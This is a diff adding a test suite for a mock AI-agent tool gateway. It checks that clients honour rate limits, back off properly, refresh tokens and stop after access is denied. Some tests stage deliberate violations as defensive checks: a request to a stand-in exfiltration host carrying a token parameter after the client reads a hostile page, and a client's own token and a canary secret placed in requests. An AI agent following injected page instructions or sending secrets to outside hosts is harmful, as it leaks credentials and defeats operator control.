@@ -1,0 +1,288 @@
+import ky from 'ky';
+import { afterEach, describe, expect, it } from 'vitest';
+import { type RunningServer, serve } from '../mock-server/adapters/node-server.ts';
+import type { GatewayConfigOverlay } from '../mock-server/config/schema.ts';
+import { createGateway, type Gateway } from '../mock-server/gateway.ts';
+import { AccessDeniedError, send, sleep, wellBehavedAgent } from './support/agents.ts';
+
+const VERIFIED_KEY = 'ak_verified_2b8d4f6a1c9e';
+/** Tight limits so a 429 comes quickly and clears within a second. */
+const TIGHT: GatewayConfigOverlay = {
+  rate_limits: {
+    rules: [{ name: 'tight', scope: 'agent', algorithm: 'token_bucket', limit: 3, window_seconds: 1 }],
+  },
+};
+
+const running: RunningServer[] = [];
+afterEach(() => Promise.all(running.splice(0).map((s) => s.close())));
+async function start(config: GatewayConfigOverlay = TIGHT): Promise<{ gateway: Gateway; url: string }> {
+  const gateway = createGateway({ config });
+  const server = await serve(gateway, { port: 0 });
+  running.push(server);
+  return { gateway, url: server.url };
+}
+const violated = (gateway: Gateway, agent: string) =>
+  [...new Set(gateway.clientReport(agent).violations.map((v) => v.rule))].sort();
+const statuses = (gateway: Gateway, agent: string) => gateway.journal.list({ agent }).map((e) => e.status);
+
+describe('well-behaved clients pass every rule', () => {
+  it('a hand-written agent: fresh tokens, Retry-After, jittered backoff, a cap, no secrets, no obeying pages', async () => {
+    const { gateway, url } = await start({ ...TIGHT, identity: { token_ttl_seconds: 2 } });
+    gateway.faults.add({
+      match: { operation: 'web.search' },
+      kind: 'status',
+      status: 503,
+      retry_after: 1,
+      every: 4,
+      delay_ms: 0,
+    });
+    gateway.faults.add({
+      match: { operation: 'web.fetch' },
+      kind: 'status',
+      status: 502,
+      count: 2,
+      every: 1,
+      delay_ms: 0,
+    });
+    const agent = wellBehavedAgent({ baseUrl: url, apiKey: VERIFIED_KEY });
+    await agent.whoami();
+    for (const query of [
+      'weather in paris',
+      'llama care',
+      'rust borrow checker',
+      'agent tool gateway',
+      'retry-after header',
+      'ai news',
+    ]) {
+      await agent.search(query);
+    }
+    await agent.fetchPage('https://blog.hostile.example/ai-news');
+    await agent.fetchPage('https://pastebin.hostile.example/leaked-config');
+    await sleep(2100); // the token expires: the next call gets 401 and the agent fetches a fresh one
+    await agent.whoami();
+    const seen = statuses(gateway, 'agent-verified');
+    expect(seen).toContain(429);
+    expect(seen).toContain(503);
+    expect(seen).toContain(502);
+    expect(
+      gateway.journal.list({ agent: 'agent-verified' }).some((e) => e.code === 'invalid_identity_token'),
+    ).toBe(true);
+    expect(gateway.clientReport('agent-verified').violations).toEqual([]);
+  }, 30_000);
+
+  it('ky, a real HTTP client library with Retry-After support and jitter, over HTTP', async () => {
+    const { gateway, url } = await start();
+    gateway.faults.add({
+      match: { operation: 'web.search' },
+      kind: 'status',
+      status: 503,
+      retry_after: 1,
+      every: 3,
+      delay_ms: 0,
+    });
+    const token = gateway.mintToken('agent-verified');
+    const api = ky.create({
+      prefixUrl: url,
+      headers: { 'X-Agent-Identity': token },
+      retry: {
+        limit: 4,
+        methods: ['get', 'post'],
+        statusCodes: [429, 503],
+        afterStatusCodes: [429, 503],
+        jitter: true,
+      },
+      timeout: 10_000,
+    });
+    // Eight calls at once: five of them meet the limit (429 with Retry-After) and ky retries them.
+    await Promise.all(
+      Array.from({ length: 8 }, (_, i) =>
+        api.post('v1/web/search', { json: { query: `ky question ${i}` } }).json(),
+      ),
+    );
+    expect(statuses(gateway, 'agent-verified')).toContain(429);
+    expect(statuses(gateway, 'agent-verified')).toContain(503);
+    expect(gateway.clientReport('agent-verified').violations).toEqual([]);
+  }, 30_000);
+});
+
+describe('each rule is caught by a client written to break it', () => {
+  it('honor-retry-after: retrying every 30 ms after a 429 instead of waiting the second it asked for', async () => {
+    const { gateway, url } = await start();
+    const token = gateway.mintToken('agent-verified');
+    for (let i = 0; i < 4; i++) await send(url, token, 'GET', '/v1/whoami');
+    expect(statuses(gateway, 'agent-verified').at(-1)).toBe(429);
+    for (let i = 0; i < 4; i++) {
+      await sleep(40);
+      await send(url, token, 'GET', '/v1/whoami');
+    }
+    expect(violated(gateway, 'agent-verified')).toEqual(['honor-retry-after']);
+    expect(gateway.clientReport('agent-verified').violations[0]?.message).toMatch(
+      /was sent \d\.\d s before the Retry-After \("1"\)/,
+    );
+  });
+
+  it('backoff-with-jitter: retrying a 503 without Retry-After at a fixed interval', async () => {
+    const { gateway, url } = await start({});
+    gateway.faults.add({
+      match: { operation: 'web.search' },
+      kind: 'status',
+      status: 503,
+      count: 10,
+      every: 1,
+      delay_ms: 0,
+    });
+    const token = gateway.mintToken('agent-verified');
+    for (let i = 0; i < 5; i++) {
+      await send(url, token, 'POST', '/v1/web/search', { query: 'q' });
+      await sleep(100);
+    }
+    expect(violated(gateway, 'agent-verified')).toEqual(['backoff-with-jitter']);
+    // Identical waits; under heavy load scheduling noise may blur them, and then they "never grew".
+    expect(gateway.clientReport('agent-verified').violations[0]?.message).toMatch(
+      /identical intervals|did not back off/,
+    );
+  });
+
+  it('backoff-with-jitter: exponential backoff without jitter repeats the same waits', async () => {
+    const { gateway, url } = await start({});
+    gateway.faults.add({
+      match: { operation: 'web.search' },
+      kind: 'status',
+      status: 503,
+      count: 8,
+      every: 1,
+      delay_ms: 0,
+    });
+    const token = gateway.mintToken('agent-verified');
+    for (const query of ['first', 'second']) {
+      for (const wait of [100, 200, 400, 0]) {
+        await send(url, token, 'POST', '/v1/web/search', { query });
+        if (wait) await sleep(wait);
+      }
+    }
+    expect(violated(gateway, 'agent-verified')).toEqual(['backoff-with-jitter']);
+    expect(gateway.clientReport('agent-verified').violations[0]?.message).toMatch(/same waits/);
+  });
+
+  it('retry-cap: more consecutive failed attempts than the cap, even with proper backoff', async () => {
+    const { gateway, url } = await start({});
+    gateway.faults.add({
+      match: { operation: 'web.fetch' },
+      kind: 'status',
+      status: 503,
+      count: 50,
+      every: 1,
+      delay_ms: 0,
+    });
+    const token = gateway.mintToken('agent-verified');
+    for (let attempt = 1; attempt <= 8; attempt++) {
+      await send(url, token, 'POST', '/v1/web/fetch', { url: 'https://a.example/' });
+      await sleep(5 * 2 ** attempt * (0.5 + Math.random() / 2));
+    }
+    expect(violated(gateway, 'agent-verified')).toEqual(['retry-cap']);
+    expect(gateway.clientReport('agent-verified', { retryCap: 10 }).violations).toEqual([]);
+  });
+
+  it('refresh-invalid-token: sending an expired token again', async () => {
+    const { gateway, url } = await start({});
+    const token = gateway.mintToken('agent-early');
+    gateway.clock.advance(2 * 3600 * 1000);
+    expect(await send(url, token, 'GET', '/v1/whoami')).toBe(401);
+    await send(url, token, 'GET', '/v1/whoami');
+    expect(violated(gateway, 'agent-early')).toEqual(['refresh-invalid-token']);
+  });
+
+  it('no-retry-on-access-denied: calling a denied tool again; a call after access was granted is fine', async () => {
+    const { gateway, url } = await start({});
+    const token = gateway.mintToken('agent-early');
+    await send(url, token, 'POST', '/v1/web/search', { query: 'q' });
+    expect(violated(gateway, 'agent-early')).toEqual([]);
+    await send(url, token, 'POST', '/v1/web/search', { query: 'q' });
+    expect(violated(gateway, 'agent-early')).toEqual(['no-retry-on-access-denied']);
+    const other = gateway.mintToken('agent-none');
+    await send(url, other, 'POST', '/v1/web/fetch', { url: 'https://a.example/' });
+    gateway.registry.update('agent-none', { tier: 'early_access' });
+    await send(url, other, 'POST', '/v1/web/fetch', { url: 'https://a.example/' });
+    expect(violated(gateway, 'agent-none')).toEqual([]);
+  });
+
+  it('no-secrets-in-requests: its own token in a query, a planted canary in a URL', async () => {
+    const { gateway, url } = await start({});
+    const token = gateway.mintToken('agent-verified');
+    await send(url, token, 'POST', '/v1/web/search', { query: `is this valid ${token}` });
+    await send(url, token, 'POST', '/v1/web/fetch', {
+      url: 'https://keys.example/?k=CANARY-SECRET-3f9a2c7e1b5d',
+    });
+    const report = gateway.clientReport('agent-verified');
+    expect(report.violations.map((v) => v.rule)).toEqual([
+      'no-secrets-in-requests',
+      'no-secrets-in-requests',
+    ]);
+    expect(report.violations[0]?.message).toContain('own_identity_token');
+    expect(report.violations[1]?.message).toContain('canary_secret');
+    expect(JSON.stringify(report)).not.toContain(token);
+  });
+
+  it('untrusted-content: going where a hostile page told it to', async () => {
+    const { gateway, url } = await start({});
+    const token = gateway.mintToken('agent-verified');
+    await send(url, token, 'POST', '/v1/web/fetch', { url: 'https://exfil.canary.example/early' });
+    expect(violated(gateway, 'agent-verified')).toEqual([]); // not after reading the page: no evidence
+    await send(url, token, 'POST', '/v1/web/fetch', { url: 'https://blog.hostile.example/ai-news' });
+    await send(url, token, 'POST', '/v1/web/fetch', {
+      url: 'https://exfil.canary.example/collect?token=nothing',
+    });
+    expect(violated(gateway, 'agent-verified')).toEqual(['untrusted-content']);
+  });
+
+  it('no-parallel-storm: many requests at once right after a 429', async () => {
+    const { gateway, url } = await start({
+      rate_limits: { rules: [], concurrency: { per_agent: 1 } },
+      tools: { 'web.search': { latency_ms: 150 } },
+    });
+    const token = gateway.mintToken('agent-verified');
+    await Promise.all([
+      send(url, token, 'POST', '/v1/web/search', { query: 'a' }),
+      send(url, token, 'POST', '/v1/web/search', { query: 'b' }),
+    ]);
+    await sleep(200);
+    await Promise.all(
+      ['c', 'd', 'e', 'f', 'g'].map((q) => send(url, token, 'POST', '/v1/web/search', { query: q })),
+    );
+    expect(statuses(gateway, 'agent-verified')).toContain(429);
+    expect(violated(gateway, 'agent-verified')).toEqual(['no-parallel-storm']);
+  });
+});
+
+describe('the report', () => {
+  it('lists every rule with its spec section, and the requests behind each violation', async () => {
+    const { gateway, url } = await start({});
+    const token = gateway.mintToken('agent-early');
+    await send(url, token, 'POST', '/v1/web/search', { query: 'q' });
+    await send(url, token, 'POST', '/v1/web/search', { query: 'q' });
+    const report = gateway.clientReport('agent-early');
+    expect(report.rules.map((r) => r.id)).toEqual([
+      'honor-retry-after',
+      'backoff-with-jitter',
+      'retry-cap',
+      'refresh-invalid-token',
+      'no-retry-on-access-denied',
+      'no-secrets-in-requests',
+      'untrusted-content',
+      'no-parallel-storm',
+    ]);
+    expect(report.violations[0]).toMatchObject({
+      rule: 'no-retry-on-access-denied',
+      spec_ref: expect.stringMatching(/§5 rule 4/),
+    });
+    expect(report.violations[0]?.requests.map((r) => r.code)).toEqual(['access_denied', 'access_denied']);
+    expect(report.requests).toBe(2);
+  });
+
+  it('a well-behaved agent that is denied stops instead of retrying', async () => {
+    const { gateway, url } = await start({});
+    const agent = wellBehavedAgent({ baseUrl: url, apiKey: 'ak_early_7c3e9a1b5d2f' });
+    await expect(agent.search('q')).rejects.toBeInstanceOf(AccessDeniedError);
+    expect(gateway.clientReport('agent-early').violations).toEqual([]);
+  });
+});
